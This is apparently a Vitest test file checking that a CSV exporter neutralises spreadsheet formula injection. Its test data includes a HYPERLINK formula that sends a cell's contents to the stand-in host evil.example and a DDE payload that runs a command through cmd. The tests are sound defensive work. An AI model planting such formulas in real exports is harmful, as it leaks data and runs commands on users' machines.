import { describe, expect, it } from 'vitest';
import { csvCell } from '@oa-archive/contracts';
import { toCsv } from '../src/csv.ts';

describe('CSV export neutralises spreadsheet formulas', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点击查看"")"`],
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['＝1+1', "'＝1+1"],
    ['关于做好档案移交工作的通知', '关于做好档案移交工作的通知'],
    ['a=b', 'a=b'],
    ['say "hi", then go', '"say ""hi"", then go"'],
    ['two\nlines', '"two\nlines"'],
  ])('writes the text %j as %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('keeps numbers as numbers and empty values empty', () => {
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('writes a header and one line per row', () => {
    expect(toCsv([{ title: '=cmd|" /C calc"!A0', n: 3 }], ['title', 'n'])).toBe(`title,n\n"'=cmd|"" /C calc""!A0",3\n`);
  });
});
